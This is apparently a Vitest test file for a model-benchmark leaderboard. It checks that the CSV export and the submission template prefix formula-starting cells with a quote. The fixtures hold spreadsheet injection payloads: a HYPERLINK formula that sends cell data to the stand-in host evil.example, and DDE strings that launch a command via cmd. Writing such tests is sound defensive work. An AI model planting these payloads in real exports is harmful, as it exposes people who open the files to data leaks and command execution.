// Issue 12, vulnerability 5: free text written into a CSV export must not start a spreadsheet
// formula. An approved result carries a formula in its engine field; the leaderboard CSV (GET
// /api/v1/leaderboard?format=csv) writes it with a leading ' instead.
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { GET as getLeaderboard } from "@/app/api/v1/leaderboard/route";
import { invalidateRankingSnapshot } from "@/lib/data/leaderboard/ranking-snapshot";
import { db } from "@/lib/db";
import { buildCsvTemplate } from "@/lib/importers/csv";
import { createSubmission } from "@/prisma/seed/factories";
import { callRoute } from "@/tests/support/call-route";
import { createIdentities } from "@/tests/support/identities";

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
let submissionIds: string[] = [];

beforeAll(async () => {
  const ids = await createIdentities(db);
  const model = await db.model.findUniqueOrThrow({ where: { slug: "llama-3.1-8b" }, select: { id: true } });
  const accelerator = await db.accelerator.findUniqueOrThrow({ where: { slug: "h100-sxm" }, select: { id: true } });
  for (const [i, engine] of FORMULAS.entries()) {
    const row = await createSubmission(db, {
      modelId: model.id,
      acceleratorId: accelerator.id,
      acceleratorCount: 1,
      precision: "FP8",
      engine,
      engineVersion: "0.9.1",
      scenario: null,
      inputTokens: 1024,
      outputTokens: 1024,
      concurrency: 16 + i,
      // Fast enough to be each offering's best llama-3.1-8b configuration (the first formula wins).
      outputTokensPerSecond: 900_000 - i,
      sourceUrl: "https://example.com/csv-injection",
      notes: "=1+1",
      submitterId: ids.identities.user.userId!,
      status: "approved",
      reviewedAt: new Date(),
    });
    submissionIds.push(row.id);
  }
  invalidateRankingSnapshot();
});

afterAll(async () => {
  await db.benchmarkSubmission.deleteMany({ where: { id: { in: submissionIds } } });
  invalidateRankingSnapshot();
  submissionIds = [];
});

describe("CSV exports escape formulas", () => {
  it("the leaderboard CSV writes free-text cells that start a formula with a leading '", async () => {
    const res = await callRoute(getLeaderboard, "/api/v1/leaderboard?format=csv&limit=1000&model=llama-3.1-8b");
    expect(res.status, res.text.slice(0, 300)).toBe(200);
    const parsed = Papa.parse<Record<string, string>>(res.text, { header: true, skipEmptyLines: true });
    const engines = parsed.data.map((row) => row.engine);
    expect(engines).toContain(`'${FORMULAS[0]}`);
    for (const row of parsed.data) {
      for (const [column, value] of Object.entries(row)) {
        if (/^[=+@\t\r]/.test(value ?? "")) throw new Error(`${column} starts a formula: ${JSON.stringify(value)}`);
        if (/^-/.test(value ?? "")) expect(Number.isFinite(Number(value)), `${column} = ${value}`).toBe(true);
      }
    }
  });

  it("the submission template escapes them too, every kind of formula start", () => {
    const csv = buildCsvTemplate(FORMULAS.map((engine) => ({ engine, notes: "@evil" })));
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(rows.map((row) => row.engine)).toEqual(FORMULAS.map((formula) => `'${formula}`));
    expect(rows.every((row) => row.notes === "'@evil")).toBe(true);
  });
});
